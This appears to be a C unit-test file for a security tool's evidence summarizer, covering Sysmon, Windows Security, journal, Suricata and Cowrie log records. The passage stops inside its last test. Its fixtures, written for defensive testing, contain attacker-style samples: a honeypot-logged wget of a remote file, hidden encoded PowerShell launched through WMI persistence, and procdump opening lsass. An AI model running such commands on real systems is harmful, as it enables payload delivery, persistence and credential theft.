/*
 * test_evidence.c: the platform of evidence records and the summary of
 * Windows and EVE ones (src/incident/evidence.c), from events and from
 * text.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "synth.h"

struct platform_row {
	const char *dataset;		/* NULL: no event, text only */
	enum core_format format;
	const char *text;
	enum incident_platform want;
	const char *why;
};

static const struct platform_row platform_rows[] = {
	{ "windows", CORE_FMT_EVTX, "{}", INCIDENT_PLAT_WINDOWS,
	  "the EVTX decoder's dataset" },
	{ "linux.auth", CORE_FMT_SYSLOG, "sshd[1]: x", INCIDENT_PLAT_LINUX,
	  "auth log" },
	{ "journal", CORE_FMT_JOURNAL_JSON, "{}", INCIDENT_PLAT_LINUX,
	  "the systemd journal" },
	{ "web.access", CORE_FMT_ACCESS_LOG, "x", INCIDENT_PLAT_WEB,
	  "access log" },
	{ "zeek.http", CORE_FMT_JSON, "{}", INCIDENT_PLAT_WEB,
	  "Zeek's HTTP log counts as web requests" },
	{ "suricata.eve", CORE_FMT_EVE_JSON, "{}", INCIDENT_PLAT_IDS,
	  "Suricata" },
	{ "zeek.conn", CORE_FMT_JSON, "{}", INCIDENT_PLAT_IDS,
	  "other Zeek logs: network monitor" },
	{ "honeypot.cowrie", CORE_FMT_JSON, "{}", INCIDENT_PLAT_HONEYPOT,
	  "Cowrie" },
	{ "json", CORE_FMT_JSON, "{}", INCIDENT_PLAT_OTHER,
	  "generic JSON" },
	{ "", CORE_FMT_EVTX, "{}", INCIDENT_PLAT_WINDOWS,
	  "no dataset: the format decides" },
	{ NULL, 0, "{\"EventID\":\"4625\",\"Channel\":\"Security\"}",
	  INCIDENT_PLAT_WINDOWS, "correlation evidence: flat Windows JSON" },
	{ NULL, 0, "{\"winlog\":{\"event_id\":4625,\"channel\":\"Security\"}}",
	  INCIDENT_PLAT_WINDOWS, "Winlogbeat nesting, numeric id" },
	{ NULL, 0, "{\"EventID\":\"4625\"}", INCIDENT_PLAT_OTHER,
	  "an event id alone is not enough" },
	{ NULL, 0, "10.0.0.1 - - [01/Mar/2024:10:00:00 +0000] \"GET "
	  "/login.php HTTP/1.1\" 401 12", INCIDENT_PLAT_WEB,
	  "an access-log line" },
	{ NULL, 0, "Mar  1 10:00:00 h sshd[1]: Failed password for root",
	  INCIDENT_PLAT_OTHER, "plain text stays other" },
	{ NULL, 0, "", INCIDENT_PLAT_OTHER, "empty text" },
};

static void test_platform_of(void **state)
{
	static struct core_event ev;

	(void)state;
	for (size_t i = 0; i < CORE_ARRAY_LEN(platform_rows); i++) {
		const struct platform_row *r = &platform_rows[i];
		enum incident_platform got;

		core_event_reset(&ev, NULL);
		ev.format = r->format;
		if (r->dataset && r->dataset[0])
			core_event_set(&ev, CORE_F_EVENT_DATASET, r->dataset,
				       strlen(r->dataset));
		got = incident_platform_of(r->dataset ? &ev : NULL,
					   synth_str(r->text));
		if (got != r->want)
			fail_msg("row %zu (%s): got %s", i, r->why,
				 incident_platform_name(got));
	}
	assert_string_equal(incident_platform_name(99), "other");
}

struct summary_row {
	const char *text;
	const char *has[4];		/* substrings the summary holds */
	const char *lacks[3];		/* and those it must not */
	const char *why;
};

static const struct summary_row summary_rows[] = {
	{ "{\"Provider_Name\":\"Microsoft-Windows-Sysmon\",\"Provider_Guid\":"
	  "\"{5770385F}\",\"EventID\":\"1\",\"Channel\":"
	  "\"Microsoft-Windows-Sysmon/Operational\",\"Image\":"
	  "\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":"
	  "\"cmd.exe /c whoami\",\"ParentImage\":"
	  "\"C:\\\\Windows\\\\explorer.exe\"}",
	  { "Sysmon 1 | Image=C:\\Windows\\System32\\cmd.exe | ",
	    "CommandLine=cmd.exe /c whoami",
	    "ParentImage=C:\\Windows\\explorer.exe", NULL },
	  { "Provider_Guid", "5770385F", "Operational" },
	  "Sysmon process creation: channel short name, escapes undone" },
	{ "{\"EventID\":\"4624\",\"Channel\":\"Security\","
	  "\"TargetUserName\":\"alice\",\"IpAddress\":\"-\","
	  "\"LogonType\":\"3\",\"SubjectUserName\":\"-\"}",
	  { "Security 4624 | TargetUserName=alice | LogonType=3", NULL },
	  { "IpAddress", "SubjectUserName", NULL },
	  "a '-' value says nothing and is left out" },
	{ "{\"EventID\":\"4688\",\"Channel\":\"Security\",\"NewProcessName\":"
	  "\"C:\\\\w\\\\a.exe\",\"ProcessName\":\"C:\\\\w\\\\p.exe\"}",
	  { "NewProcessName=C:\\w\\a.exe", NULL },
	  { "ProcessName=C:\\w\\p.exe", NULL },
	  "of names that say the same thing, the first present is shown" },
	{ "{\"winlog\":{\"event_id\":7045,\"channel\":\"System\","
	  "\"event_data\":{\"ServiceName\":\"evil\",\"ImagePath\":"
	  "\"C:\\\\t\\\\x.exe\"}}}",
	  { "System 7045 | ServiceName=evil | ImagePath=C:\\t\\x.exe", NULL },
	  { NULL },
	  "Winlogbeat nesting: numeric event id, leaves by name" },
	{ "{\"EventID\":\"4104\",\"Provider_Name\":"
	  "\"Microsoft-Windows-PowerShell\",\"ScriptBlockText\":"
	  "\"a\\n\\n   b\\tc\"}",
	  { "PowerShell 4104 | ScriptBlockText=a b c", NULL },
	  { "\n", "\t", NULL },
	  "no channel: the provider names it; blanks fold to one space" },
	{ "{\"EventID\":\"1\",\"Channel\":\"Security\",\"Image\":\"C:\\\\"
	  "Program Files\\\\Some Very Long Vendor Name\\\\Product Line\\\\"
	  "bin\\\\x64\\\\tool.exe\"}",
	  { "...\\tool.exe", "Image=C:\\Program", NULL },
	  { "Product Line", NULL },
	  "a long path keeps its file name whole, the middle goes" },
	{ "{\"EventID\":\"1\",\"Channel\":\"Security\",\"Image\":\"C:\\\\"
	  "x.exe\",\"CommandLine\":\"",
	  { "Security 1 | Image=C:\\x.exe", NULL },
	  { "CommandLine", NULL },
	  "a record cut in a value keeps the fields before the cut" },
	{ "{\"EventID\":\"18456\",\"Channel\":\"Application\",\"Data\":"
	  "\"sa\\nReason: Password did not match.\\n [CLIENT: 10.0.2.17]\"}",
	  { "Application 18456 | Data=sa Reason: Password did not match. "
	    "[CLIENT: 10.0.2.17]", NULL },
	  { "\n", NULL },
	  "unnamed Data items (MSSQL, classic PowerShell): what they say" },
	{ "{\"EventID\":\"4688\",\"Channel\":\"Security\",\"NewProcessName\":"
	  "\"C:\\\\w\\\\a.exe\",\"Data\":\"x\"}",
	  { "NewProcessName=C:\\w\\a.exe | Data=x", NULL },
	  { NULL },
	  "Data comes after the named fields" },
	{ "{\"EventID\":\"19\",\"Channel\":"
	  "\"Microsoft-Windows-Sysmon/Operational\",\"Operation\":"
	  "\"Created\",\"User\":\"CORP\\\\eve\",\"EventNamespace\":"
	  "\"root\\\\cimv2\",\"Name\":\"Updater\",\"Query\":\"SELECT * "
	  "FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance "
	  "ISA 'Win32_PerfFormattedData_PerfOS_System'\"}",
	  { "Sysmon 19 | Name=Updater | Query=SELECT * FROM __Instance",
	    "PerfOS_System' | User=CORP\\eve", NULL },
	  { "Operation", "EventNamespace", NULL },
	  "WMI filter: its name and the query that fires it, then who" },
	{ "{\"EventID\":\"20\",\"Channel\":"
	  "\"Microsoft-Windows-Sysmon/Operational\",\"Operation\":"
	  "\"Created\",\"User\":\"CORP\\\\eve\",\"Name\":\"Updater\","
	  "\"Type\":\"Command Line\",\"Destination\":\"C:\\\\Windows\\\\"
	  "System32\\\\cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA\"}",
	  { "Sysmon 20 | Name=Updater | Type=Command Line | Destination=C:\\"
	    "Windows\\System32\\cmd.exe /c powershell -nop -w hidden -enc "
	    "SQBFAFgA | User=CORP\\eve", NULL },
	  { "Operation", NULL },
	  "WMI consumer: what it runs (Type, Destination), then who" },
	{ "{\"EventID\":\"21\",\"Channel\":"
	  "\"Microsoft-Windows-Sysmon/Operational\",\"Operation\":"
	  "\"Created\",\"User\":\"CORP\\\\eve\",\"Consumer\":"
	  "\"CommandLineEventConsumer.Name=Updater\",\"Filter\":"
	  "\"__EventFilter.Name=Updater\"}",
	  { "Sysmon 21 | Consumer=CommandLineEventConsumer.Name=Updater | "
	    "Filter=__EventFilter.Name=Updater | User=CORP\\eve", NULL },
	  { "Operation", NULL },
	  "WMI binding: which consumer to which filter, then who" },
	{ "{\"EventID\":\"13\",\"Channel\":\"Microsoft-Windows-Sysmon/"
	  "Operational\",\"TargetObject\":\"HKU\\\\S-1-5-21-3461203602-"
	  "4096304019-2269080069-1000_Classes\\\\mscfile\\\\shell\"}",
	  { "TargetObject=HKU\\S-1-5-21-...-1000_Classes\\mscfile\\shell",
	    NULL },
	  { "3461203602", NULL },
	  "an account SID's domain part is shortened, its RID kept" },
	{ "{\"EventID\":\"13\",\"Channel\":\"Microsoft-Windows-Sysmon/"
	  "Operational\",\"TargetObject\":\"HKLM\\\\S-1-5-21-12-ab-3\"}",
	  { "TargetObject=HKLM\\S-1-5-21-12-ab-3", NULL }, { NULL },
	  "what only looks like a SID stays as written" },
	{ "{\"EventID\":\"1\",\"Channel\":\"Microsoft-Windows-Sysmon/"
	  "Operational\",\"Image\":\"C:\\\\W\\\\p.exe\",\"CommandLine\":"
	  "\"\\\"C:\\\\w\\\\P.EXE\\\" \",\"ParentImage\":\"C:\\\\W\\\\e.exe\"}",
	  { "Image=C:\\W\\p.exe | ParentImage=C:\\W\\e.exe", NULL },
	  { "CommandLine", NULL },
	  "a command line that only names the program is left out" },
	{ "{\"__CURSOR\":\"s=abc;i=1\",\"__REALTIME_TIMESTAMP\":"
	  "\"1795185405000000\",\"_BOOT_ID\":\"bbbb\",\"_HOSTNAME\":\"web1\","
	  "\"SYSLOG_IDENTIFIER\":\"sshd\",\"_PID\":\"812\",\"MESSAGE\":"
	  "\"Failed password for root from 203.0.113.5 port 22 ssh2\"}",
	  { "web1 sshd[812]: Failed password for root from 203.0.113.5 port "
	    "22 ssh2", NULL },
	  { "__CURSOR", "bbbb", NULL },
	  "a journal record reads as its syslog line" },
	{ "{\"_HOSTNAME\":\"web1\",\"_PID\":\"9\",\"MESSAGE\":[70,97,105]}",
	  { NULL }, { "web1", NULL },
	  "a journal message of bytes (an array): no summary, the record" },
	{ "{\"timestamp\":\"2024-03-01T10:00:00.000000+0000\",\"flow_id\":1,"
	  "\"event_type\":\"alert\",\"src_ip\":\"203.0.113.5\",\"src_port\":"
	  "4431,\"dest_ip\":\"10.0.0.2\",\"dest_port\":22,\"proto\":\"TCP\","
	  "\"alert\":{\"signature_id\":2001219,\"signature\":\"ET SCAN "
	  "Potential SSH Scan\",\"severity\":2}}",
	  { "EVE alert | signature=ET SCAN Potential SSH Scan | "
	    "203.0.113.5:4431 -> 10.0.0.2:22 TCP", NULL },
	  { "flow_id", NULL },
	  "a Suricata alert: its signature and the flow's ends" },
	{ "{\"eventid\": \"cowrie.command.input\", \"input\": \"wget "
	  "http://198.51.100.1/x\", \"timestamp\": \"2018-05-17T00:10:00Z\", "
	  "\"message\": \"CMD: wget http://198.51.100.1/x\", \"src_ip\": "
	  "\"66.79.183.91\", \"session\": \"ed05e56baba1\"}",
	  { "cowrie command.input | 66.79.183.91 | CMD: wget "
	    "http://198.51.100.1/x", NULL },
	  { "ed05e56baba1", NULL },
	  "a Cowrie record: its event, the visitor and what it did" },
	{ "{\"EventID\":\"1\"}", { NULL }, { "1", NULL },
	  "no channel or provider: not a Windows record, no summary" },
	{ "Failed password for root from 10.0.0.1", { NULL }, { "|", NULL },
	  "text that is not JSON" },
};

static void check_summary(const struct summary_row *r, size_t i,
			  const char *got, size_t len)
{
	assert_true(len < INCIDENT_SUMMARY_MAX);
	assert_int_equal(strlen(got), len);
	for (size_t k = 0; k < 4 && r->has[k]; k++)
		if (!strstr(got, r->has[k]))
			fail_msg("row %zu (%s): no \"%s\" in \"%s\"", i, r->why,
				 r->has[k], got);
	for (size_t k = 0; k < 3 && r->lacks[k]; k++)
		if (strstr(got, r->lacks[k]))
			fail_msg("row %zu (%s): \"%s\" in \"%s\"", i, r->why,
				 r->lacks[k], got);
	if (!r->has[0] && len)
		fail_msg("row %zu (%s): summary \"%s\"", i, r->why, got);
}

static void test_summary_of_text(void **state)
{
	(void)state;
	for (size_t i = 0; i < CORE_ARRAY_LEN(summary_rows); i++) {
		char out[INCIDENT_SUMMARY_MAX];
		size_t len = incident_evidence_summary(
			NULL, synth_str(summary_rows[i].text), out,
			sizeof(out));

		check_summary(&summary_rows[i], i, out, len);
	}
}

static void set_named(struct core_event *ev, const char *k, const char *v)
{
	core_event_set_named(ev, k, strlen(k), v, strlen(v));
}

/* From an event: the decoded named fields, the line within its width. */
static void test_summary_of_event(void **state)
{
	static struct core_event ev;
	char longer[400], out[INCIDENT_SUMMARY_MAX];
	size_t len;

	(void)state;
	memset(longer, 'A', sizeof(longer) - 1);
	longer[sizeof(longer) - 1] = '\0';
	core_event_reset(&ev, NULL);
	ev.format = CORE_FMT_EVTX;
	core_event_set_lit(&ev, CORE_F_EVENT_DATASET, "windows");
	set_named(&ev, "EventID", "10");
	set_named(&ev, "Channel", "Microsoft-Windows-Sysmon/Operational");
	set_named(&ev, "SourceImage", "C:\\t\\procdump.exe");
	set_named(&ev, "TargetImage", "C:\\Windows\\system32\\lsass.exe");
	set_named(&ev, "GrantedAccess", "0x1fffff");
	set_named(&ev, "CommandLine", longer);
	set_named(&ev, "TargetObject", longer);
	set_named(&ev, "PipeName", longer);
	len = incident_evidence_summary(&ev, synth_str("{}"), out,
					sizeof(out));
	assert_non_null(strstr(out, "Sysmon 10 | SourceImage=C:\\t\\procdump"
				    ".exe | TargetImage=C:\\Windows\\system32"
				    "\\lsass.exe | GrantedAccess=0x1fffff"));
	assert_non_null(strstr(out, "CommandLine=AAA"));
	assert_true(len <= INCIDENT_SUMMARY_MAX - 1);

	/* The same fields from a Linux event give no summary. */
	core_event_set_lit(&ev, CORE_F_EVENT_DATASET, "linux.auth");
	ev.format = CORE_FMT_SYSLOG;
	assert_int_equal(incident_evidence_summary(&ev, synth_str("x"), out,
						   sizeof(out)), 0);
	assert_string_equal(out, "");
}

/*
 * An EVE record past the evidence's kilobyte (a pretty-printed export
 * puts the alert object last): its summary comes from the event, which
 * still holds the signature; cut the same way with no event, the text
 * has none to give.
 */
static void test_summary_of_long_eve(void **state)
{
	static struct core_event ev;
	static char raw[3000];
	char out[INCIDENT_SUMMARY_MAX];
	int n;

	(void)state;
	n = snprintf(raw, sizeof(raw), "{\"event_type\":\"alert\","
		     "\"src_ip\":\"198.51.100.4\",\"src_port\":4242,"
		     "\"dest_ip\":\"10.0.0.2\",\"dest_port\":80,"
		     "\"proto\":\"TCP\",\"http\":{\"url\":\"/%02000d\"},"
		     "\"alert\":{\"signature\":\"ET WEB test\"}}", 7);
	assert_true(n > DETECT_EVIDENCE_MAX && n < (int)sizeof(raw));
	core_event_reset(&ev, NULL);
	ev.format = CORE_FMT_EVE_JSON;
	ev.raw = core_str_make(raw, (size_t)n);
	core_event_set_lit(&ev, CORE_F_EVENT_DATASET, "suricata.eve");
	set_named(&ev, "event_type", "alert");
	set_named(&ev, "src_ip", "198.51.100.4");
	set_named(&ev, "src_port", "4242");
	set_named(&ev, "dest_ip", "10.0.0.2");
	set_named(&ev, "dest_port", "80");
	set_named(&ev, "proto", "TCP");
	set_named(&ev, "alert.signature", "ET WEB test");
	incident_evidence_summary(&ev, core_str_make(raw, DETECT_EVIDENCE_MAX),
				  out, sizeof(out));
	assert_string_equal(out, "EVE alert | signature=ET WEB test | "
			    "198.51.100.4:4242 -> 10.0.0.2:80 TCP");
	incident_evidence_summary(NULL, core_str_make(raw,
						      DETECT_EVIDENCE_MAX),
				  out, sizeof(out));
	assert_null(strstr(out, "signature"));
}

/* A command padded past any buffer still shows its own start. */
static void test_summary_of_padded_command(void **state)
{
	static struct core_event ev;
	static char padded[9000];
	char out[INCIDENT_SUMMARY_MAX];
	size_t len;

	(void)state;
	memset(padded, 'B', sizeof(padded) - 1);
	memcpy(padded, "powershell.exe -enc ", 20);
	memcpy(padded + 4200, " benign.exe --harmless ", 23);
	padded[sizeof(padded) - 1] = '\0';
	core_event_reset(&ev, NULL);
	ev.format = CORE_FMT_EVTX;
	core_event_set_lit(&ev, CORE_F_EVENT_DATASET, "windows");
	set_named(&ev, "EventID", "1");
	set_named(&ev, "Channel", "Microsoft-Windows-Sysmon/Operational");
	set_named(&ev, "CommandLine", padded);
	len = incident_evidence_summary(&ev, synth_str("{}"), out,
					sizeof(out));
	assert_non_null(strstr(out, "CommandLine=powershell.exe -enc"));
	assert_null(strstr(out, "benign"));
	assert_true(len <= INCIDENT_SUMMARY_MAX - 1);
}

/* ------------------------------------------- pinned event summaries */

/*
 * The summaries below are pinned byte for byte: they are what the
 * summary of a Windows event read as before the event's fields stopped
 * being copied into a table of pairs (evidence.c reads them in one pass
 * now), and each row leans on one thing that pass must keep: the first
 * of two fields under one name, the first MAX_PAIRS (128) named fields
 * only, the ends of a long value, SIDs, control bytes.
 */

static struct core_event pin_ev;

/* A Windows event of the EVTX decoder, with its id and channel. */
static struct core_event *pin_event(const char *id, const char *channel)
{
	core_event_reset(&pin_ev, NULL);
	pin_ev.format = CORE_FMT_EVTX;
	core_event_set_lit(&pin_ev, CORE_F_EVENT_DATASET, "windows");
	if (id)
		set_named(&pin_ev, "EventID", id);
	if (channel)
		set_named(&pin_ev, "Channel", channel);
	return &pin_ev;
}

static void set_bytes(struct core_event *ev, const char *k, const char *v,
		      size_t len)
{
	core_event_set_named(ev, k, strlen(k), v, len);
}

static void pin(const char *why, const char *want, size_t n)
{
	char out[400];
	size_t len;

	assert_true(n <= sizeof(out));
	memset(out, 'Z', sizeof(out));
	len = incident_evidence_summary(&pin_ev, synth_str("{}"), out, n);
	if (len != strlen(want) || strcmp(out, want) != 0)
		fail_msg("%s:\n got \"%s\" (%zu)\nwant \"%s\"", why, out, len,
			 want);
}

/* Index of named field k in pin_ev. */
static unsigned field_at(const char *k)
{
	for (unsigned i = 0; i < pin_ev.nfields; i++)
		if (pin_ev.fields[i].id == CORE_F_NAMED &&
		    core_str_eq_lit(pin_ev.fields[i].name, k))
			return i;
	fail_msg("no field %s", k);
	return 0;
}

static void test_pinned_duplicate_names(void **state)
{
	(void)state;
	/* Set twice: the event keeps one field, the last value. */
	pin_event("1", "Microsoft-Windows-Sysmon/Operational");
	set_named(&pin_ev, "Image", "C:\\a\\first.exe");
	set_named(&pin_ev, "User", "CORP\\eve");
	set_named(&pin_ev, "Image", "C:\\b\\second.exe");
	pin("a name set twice", "Sysmon 1 | Image=C:\\b\\second.exe | "
	    "User=CORP\\eve", INCIDENT_SUMMARY_MAX);

	/*
	 * Two fields under one name (a rename that breaks its contract):
	 * the first in field order is shown, though the event's own index
	 * still finds the later one.
	 */
	pin_event("1", "Microsoft-Windows-Sysmon/Operational");
	set_named(&pin_ev, "Early", "C:\\x\\early.exe");
	set_named(&pin_ev, "Image", "C:\\x\\late.exe");
	set_named(&pin_ev, "CommandLine", "cmd /c first");
	set_named(&pin_ev, "Later", "cmd /c second");
	core_event_rename_named(&pin_ev, field_at("Early"), "Image", 5);
	core_event_rename_named(&pin_ev, field_at("Later"), "CommandLine",
				11);
	assert_string_equal(core_event_get_named(&pin_ev, "Image", 5)->p,
			    "C:\\x\\late.exe");
	pin("two fields under one name", "Sysmon 1 | Image=C:\\x\\early.exe "
	    "| CommandLine=cmd /c first", INCIDENT_SUMMARY_MAX);

	/* The first one says nothing ("-"): the row's next name is read. */
	pin_event("4688", "Security");
	set_named(&pin_ev, "Dash", "-");
	set_named(&pin_ev, "NewProcessName", "C:\\w\\a.exe");
	set_named(&pin_ev, "Image", "C:\\w\\b.exe");
	core_event_rename_named(&pin_ev, field_at("Dash"), "Image", 5);
	pin("a '-' under a name seen first", "Security 4688 | "
	    "NewProcessName=C:\\w\\a.exe", INCIDENT_SUMMARY_MAX);
}

/*
 * Only the first 128 named fields are read; ECS fields do not count.
 * The event keeps names as pointers: each has its own storage.
 */
static void test_pinned_many_fields(void **state)
{
	static char names[200][16];

	(void)state;
	pin_event("1", "Microsoft-Windows-Sysmon/Operational");
	for (int i = 0; i < 125; i++) {
		snprintf(names[i], sizeof(names[i]), "Field%d", i);
		set_named(&pin_ev, names[i], "filler");
		if (i % 10 == 0)
			core_event_set(&pin_ev, (enum core_field_id)(i / 10 +
				       CORE_F_SOURCE_IP), "10.0.0.1", 8);
	}
	set_named(&pin_ev, "TargetImage", "C:\\t\\128th.exe");
	set_named(&pin_ev, "CommandLine", "the 129th: never read");
	set_named(&pin_ev, "TargetUserName", "neither");
	pin("128th named field in, 129th out", "Sysmon 1 | "
	    "TargetImage=C:\\t\\128th.exe", INCIDENT_SUMMARY_MAX);

	/* Past 128, a name set again keeps its place among the first. */
	set_named(&pin_ev, "Field3", "C:\\late\\value.exe");
	core_event_rename_named(&pin_ev, field_at("Field3"), "Image", 5);
	pin("a field renamed within the first 128", "Sysmon 1 | "
	    "Image=C:\\late\\value.exe | TargetImage=C:\\t\\128th.exe",
	    INCIDENT_SUMMARY_MAX);

	/* Fields past the 128th are not read, even when the line has room. */
	pin_event("4624", "Security");
	set_named(&pin_ev, "TargetUserName", "administrator");
	set_named(&pin_ev, "LogonType", "10");
	for (int i = 0; i < 200; i++) {
		snprintf(names[i], sizeof(names[i]), "Pad%d", i);
		set_named(&pin_ev, names[i], "x");
	}
	set_named(&pin_ev, "IpAddress", "203.0.113.9");
	pin("fields past the 128th named one", "Security 4624 | "
	    "TargetUserName=administrator | LogonType=10",
	    INCIDENT_SUMMARY_MAX);
}

/* v: len bytes of fill, with head and tail written over its ends. */
static const char *long_value(char *v, size_t len, char fill,
			      const char *head, const char *tail)
{
	memset(v, fill, len);
	memcpy(v, head, strlen(head));
	memcpy(v + len - strlen(tail), tail, strlen(tail));
	v[len] = '\0';
	return v;
}

static void test_pinned_long_values(void **state)
{
	static char v[4][3200];

	(void)state;
	pin_event("1", "Microsoft-Windows-Sysmon/Operational");
	set_named(&pin_ev, "Image", long_value(v[0], 700, 'd',
		  "C:\\Program Files\\", "\\bin\\tool-name.exe"));
	set_named(&pin_ev, "CommandLine", long_value(v[1], 3000, 'A',
		  "powershell.exe -nop -w hidden -enc ", " -tail END"));
	set_named(&pin_ev, "ParentImage", "C:\\Windows\\explorer.exe");
	pin("a long path and a padded command line",
	    "Sysmon 1 | Image=C:\\Program Files\\dddddddddddddddddddddd..."
	    "\\tool-name.exe | CommandLine=powershell.exe -nop -w hidden "
	    "-enc...AAAAAAAAAAAAAAAAAAAAAAAA -tail END", INCIDENT_SUMMARY_MAX);

	/*
	 * 1024 bytes are folded whole, 1025 as two ends of 512 each: the
	 * blanks left at the end of the first end go, the second end starts
	 * with one.
	 */
	pin_event("4104", "Microsoft-Windows-PowerShell/Operational");
	set_named(&pin_ev, "ScriptBlockText", long_value(v[2], 1024, ' ',
		  "Write-Host start", "end"));
	pin("1024 bytes", "PowerShell 4104 | ScriptBlockText=Write-Host start "
	    "end", INCIDENT_SUMMARY_MAX);
	set_named(&pin_ev, "ScriptBlockText", long_value(v[3], 1025, ' ',
		  "Write-Host start", "end"));
	pin("1025 bytes", "PowerShell 4104 | ScriptBlockText=Write-Host "
	    "start... end", INCIDENT_SUMMARY_MAX);

	/* A cut never splits a UTF-8 sequence. */
	pin_event("11", "Microsoft-Windows-Sysmon/Operational");
	set_named(&pin_ev, "TargetFilename", "C:\\User\\\xc3\xa9\xc3\xa9"
		  "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		  "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		  "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		  "\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac.docx");
	pin("UTF-8 kept whole", "Sysmon 11 | TargetFilename=C:\\User\\"
	    "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9..."
	    "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
	    "\xc3\xa9\xc3\xa9"
	    "\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac.docx",
	    INCIDENT_SUMMARY_MAX);

	/* The room left decides: a small buffer cuts the first value. */
	pin_event("1", "Microsoft-Windows-Sysmon/Operational");
	set_named(&pin_ev, "Image", "C:\\Windows\\System32\\cmd.exe");
	set_named(&pin_ev, "CommandLine", "cmd.exe /c whoami /all");
	pin("40 bytes", "Sysmon 1 | Image=C:\\Windows\\...\\cmd.exe", 40);
	pin("24 bytes", "Sysmon 1", 24);
}

static void test_pinned_sids(void **state)
{
	(void)state;
	pin_event("13", "Microsoft-Windows-Sysmon/Operational");
	set_named(&pin_ev, "TargetObject", "HKU\\S-1-5-21-1111111111-"
		  "2222222222-3333333333-1001\\Software\\S-1-5-21-1-2-3-500"
		  "_Classes");
	set_named(&pin_ev, "Details", "\t S-1-5-21-9-9-9-x SS-1-5-21-4-5-6-7");
	pin("SIDs", "Sysmon 13 | TargetObject=HKU\\S-1-5-21-...-1001\\"
	    "Software\\S-1-5-21-...-500_Classes | Details=S-1-5-21-...-x "
	    "SS-1-5-21-...-7", INCIDENT_SUMMARY_MAX);

	/* Blanks before a SID fold to one space; what is no SID stays. */
	pin_event("13", "Microsoft-Windows-Sysmon/Operational");
	set_named(&pin_ev, "Details", "y\t\nS-1-5-21-7-7-7-8 S-1-5-21-1-2-3 "
		  "S-1-5-21-");
	pin("blanks before a SID", "Sysmon 13 | Details=y S-1-5-21-...-8 "
	    "S-1-5-21-1-2-3 S-1-5-21-", INCIDENT_SUMMARY_MAX);

	/* A SID cut where a long value's first end ends stays as written. */
	pin_event("13", "Microsoft-Windows-Sysmon/Operational");
	{
		static char v[1400];

		long_value(v, 1300, ' ', "HKLM\\", "\\end");
		memcpy(v + 500, "S-1-5-21-12345-67890-13579-1000", 31);
		set_named(&pin_ev, "TargetObject", v);
	}
	pin("a SID across the cut", "Sysmon 13 | TargetObject=HKLM\\ "
	    "S-1-5-21-123... \\end", INCIDENT_SUMMARY_MAX);
}

static void test_pinned_control_bytes(void **state)
{
	static const char image[] = "C:\\t\0x\\a\x7f.exe";
	static const char id[] = "1\x01" "2";
	static const char channel[] = "Sec\0ur\tity\x1f";

	(void)state;
	pin_event(NULL, "Microsoft-Windows-Sysmon/Operational");
	set_bytes(&pin_ev, "EventID", id, sizeof(id) - 1);
	set_bytes(&pin_ev, "Image", image, sizeof(image) - 1);
	set_named(&pin_ev, "CommandLine", "  cmd.exe\r\n\t/c   whoami "
		  "\x1b[0m \x7f ");
	set_named(&pin_ev, "User", " \t ");
	set_named(&pin_ev, "TargetUserName", "-");
	pin("control bytes fold, blanks trim", "Sysmon 1 2 | "
	    "Image=C:\\t x\\a .exe | CommandLine=cmd.exe /c whoami [0m",
	    INCIDENT_SUMMARY_MAX);

	/* The channel and id are not folded, yet show no control byte. */
	pin_event("4688", NULL);
	set_bytes(&pin_ev, "Channel", channel, sizeof(channel) - 1);
	set_named(&pin_ev, "NewProcessName", "C:\\w\\a.exe");
	pin("control bytes in the channel", "Sec ur ity  4688 | "
	    "NewProcessName=C:\\w\\a.exe", INCIDENT_SUMMARY_MAX);
}

/*
 * A line past its ceiling (n - 1 bytes) is cut there and takes nothing
 * more: a journal or Cowrie message longer than the line keeps its host,
 * ident and start; a cut never splits a UTF-8 character.
 */
static void test_pinned_ceiling(void **state)
{
	static char text[1400], msg[700], want[800];
	char out[INCIDENT_SUMMARY_MAX];
	size_t n;

	(void)state;
	long_value(msg, 600, 'm', "Accepted publickey for deploy", "<END>");
	for (size_t i = 100; i < 600; i += 100)
		msg[i] = (char)('0' + i / 100);
	snprintf(text, sizeof(text), "{\"_HOSTNAME\":\"bastion\","
		 "\"SYSLOG_IDENTIFIER\":\"sshd\",\"_PID\":\"4242\","
		 "\"MESSAGE\":\"%s\"}", msg);
	snprintf(want, sizeof(want), "bastion sshd[4242]: %s", msg);
	want[sizeof(out) - 1] = '\0';
	assert_int_equal(incident_evidence_summary(NULL, synth_str(text), out,
						   sizeof(out)),
			 sizeof(out) - 1);
	assert_string_equal(out, want);

	snprintf(text, sizeof(text), "{\"eventid\":\"cowrie.command.input\","
		 "\"src_ip\":\"198.51.100.7\",\"message\":\"CMD: %s\"}", msg);
	snprintf(want, sizeof(want),
		 "cowrie command.input | 198.51.100.7 | CMD: %s", msg);
	want[sizeof(out) - 1] = '\0';
	assert_int_equal(incident_evidence_summary(NULL, synth_str(text), out,
						   sizeof(out)),
			 sizeof(out) - 1);
	assert_string_equal(out, want);

	/* Two-byte characters across the ceiling, at both parities. */
	for (size_t pad = 0; pad < 2; pad++) {
		size_t at = 0;

		for (size_t i = 0; i < pad; i++)
			msg[at++] = 'x';
		while (at + 2 < 400) {
			msg[at++] = (char)0xd0;
			msg[at++] = (char)0x96;
		}
		msg[at] = '\0';
		snprintf(text, sizeof(text), "{\"_HOSTNAME\":\"h\","
			 "\"SYSLOG_IDENTIFIER\":\"x\",\"MESSAGE\":\"%s\"}",
			 msg);
		n = incident_evidence_summary(NULL, synth_str(text), out,
					      sizeof(out));
		assert_true(n == sizeof(out) - 1 || n == sizeof(out) - 2);
		assert_int_equal((unsigned char)out[n - 2], 0xd0);
		assert_int_equal((unsigned char)out[n - 1], 0x96);
	}

	pin_event("4688", "Security");
	set_named(&pin_ev, "NewProcessName", "C:\\w\\a.exe");
	pin("channel and id past the ceiling", "Security 46", 12);
	pin("the blank after the channel past it", "Securit", 8);
